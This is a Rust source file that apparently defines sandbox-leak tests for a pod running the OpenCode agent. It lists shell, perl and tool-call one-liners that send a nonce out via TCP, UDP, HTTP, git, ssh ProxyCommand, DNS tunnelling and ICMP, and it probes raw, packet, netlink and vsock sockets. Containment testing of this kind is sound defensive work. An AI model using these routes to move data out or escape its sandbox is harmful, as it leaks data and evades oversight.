//! Data sent out of the pod.

use crate::leaks::attack::{Attack, Class::Out, How, Real, Sign};

pub(super) const ALL: &[Attack] = &[
    Attack::shell(Out, "tcp", "a TCP connection", Sign::Sends,
        r#"printf '%s\n' "$NONCE" >"/dev/tcp/$NODE/$OUT_PORT""#).isolated(),
    Attack::shell(Out, "http-by-javascript", "an HTTP request of OpenCode's own runtime", Sign::Sends,
        r#"js 'await fetch(`http://${process.env.OUT}/${process.env.NONCE}`)'"#).isolated(),
    Attack::shell(Out, "git-push", "git, to a server of its own", Sign::Sends,
        r#"timeout 5 git ls-remote "http://$OUT/$NONCE""#).isolated(),
    Attack::shell(Out, "ssh", "ssh, with the data as the user's name", Sign::Sends,
        r#"timeout 5 ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 -o "ProxyCommand=bash -c 'echo $NONCE >/dev/tcp/$NODE/$OUT_PORT'" x@y"#).isolated(),
    Attack::shell(Out, "tcp-fast-open", "TCP fast open, which connects without connect", Sign::Sends,
        r#"perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 6) or die; send(S, "$ENV{NONCE}\n", 0x20000000, sockaddr_in($ENV{OUT_PORT}, inet_aton($ENV{NODE}))) or die "send: $!\n"; sleep 1'"#).isolated(),
    Attack::shell(Out, "mptcp", "multipath TCP, which rules for TCP may miss", Sign::Sends,
        r#"perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 262) or die "socket: $!\n"; connect(S, sockaddr_in($ENV{OUT_PORT}, inet_aton($ENV{NODE}))) or die "connect: $!\n"; syswrite S, "$ENV{NONCE}\n"; sleep 1'"#).isolated(),
    Attack {
        name: "webfetch",
        class: Out,
        tries: "OpenCode's own tool for web pages",
        how: How::Tool("webfetch", r#"{"url": "http://$OUT/$NONCE", "format": "text"}"#),
        later: None,
        sign: Sign::Sends,
        real: Real::Isolated,
    },
    Attack::shell(Out, "udp", "a UDP packet", Sign::Sends,
        r#"printf '%s\n' "$NONCE" >"/dev/udp/$NODE/$OUT_PORT""#).isolated(),
    Attack::shell(Out, "dns", "a question to the cluster's DNS, with the data as a name", Sign::Says("RESOLVED"),
        r#"s=$(sed -n 's/^nameserver //p' /etc/resolv.conf | head -n 1); perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 17) or die "socket: $!\n"; my $q = pack("n6", 7, 256, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } substr($ENV{NONCE}, 0, 60), "example", "com") . pack("Cnn", 0, 1, 1);
  send(S, $q, 0, sockaddr_in(53, inet_aton($ARGV[0]))) or die "send: $!\n"; $SIG{ALRM} = sub { exit }; alarm 4; recv(S, my $a, 512, 0); print "RESOLVED\n" if length $a > 12' "$s""#).isolated(),
    Attack::shell(Out, "icmp", "a ping with the data in it", Sign::Says("PONG"),
        r#"perl -MSocket -e 'for my $t (SOCK_DGRAM, SOCK_RAW) { socket(S, AF_INET, $t, 1) or do { print "socket: $!\n"; next }; my $p = pack("CCnnna*", 8, 0, 0, 7, 7, $ENV{NONCE} . ("x" x (length($ENV{NONCE}) % 2))); my $c = 0; $c += $_ for unpack("n*", $p); $c = ($c >> 16) + ($c & 65535); $c += $c >> 16;
  substr($p, 2, 2) = pack("n", ~$c & 65535); send(S, $p, 0, sockaddr_in(0, inet_aton($ENV{NODE}))) or do { print "send: $!\n"; next }; $SIG{ALRM} = sub { exit }; alarm 3; recv(S, my $a, 512, 0); print "PONG\n" if length $a }'"#).isolated(),
    Attack::shell(Out, "raw-ip", "a raw IP socket", Sign::Says("RAW"),
        r#"perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 255) ? print "RAW\n" : print "$!\n"'"#),
    Attack::shell(Out, "packet-socket", "a packet socket, which sees and forges everything on the pod's network", Sign::Says("PACKET"),
        r#"perl -e 'socket(S, 17, 3, 768) ? print "PACKET\n" : print "$!\n"'"#),
    Attack::shell(Out, "netlink-route", "changing the pod's addresses", Sign::Says("ADDRESS"),
        r#"perl -e 'socket(S, 16, 3, 0) or die "$!\n"; bind(S, pack("SSLL", 16, 0, 0, 0)) or die; my $m = pack("LSSLL CCCCL SSa4 SSa4", 40, 20, 0x605, 1, 0, 2, 32, 0, 0, 1, 8, 2, "\x7f\x01\x02\x03", 8, 1, "\x7f\x01\x02\x03"); send(S, $m, 0, pack("SSLL", 16, 0, 0, 0)); sysread S, my $a, 4096; my ($e) = unpack("x16 l", $a); print $e == 0 || $e == -17 ? "ADDRESS\n" : "errno $e\n"'"#),
    Attack::shell(Out, "vsock", "a socket to the machine below", Sign::Says("VSOCK"),
        r#"perl -e 'socket(S, 40, 1, 0) ? print "VSOCK\n" : print "$!\n"'"#),
];
